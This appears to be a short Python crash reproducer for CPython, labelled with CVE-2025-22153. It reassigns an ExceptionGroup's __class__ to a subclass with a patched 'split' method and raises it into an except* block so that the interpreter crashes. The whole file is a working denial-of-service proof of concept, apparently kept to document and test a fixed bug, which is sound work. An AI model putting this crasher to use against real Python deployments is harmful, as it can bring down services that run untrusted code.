# technique: __class__ of a group assigned after it was made
# goal: crash
# mended: later releases
# source: CVE-2025-22153
class Honest(ExceptionGroup):
    pass


class Evil(ExceptionGroup):
    pass


group = Honest('group', [ValueError()])
type.__setattr__(Evil, 'split', lambda self, condition: 7 ** 100)
group.__class__ = Evil
try:
    raise group
except* ValueError:
    pass
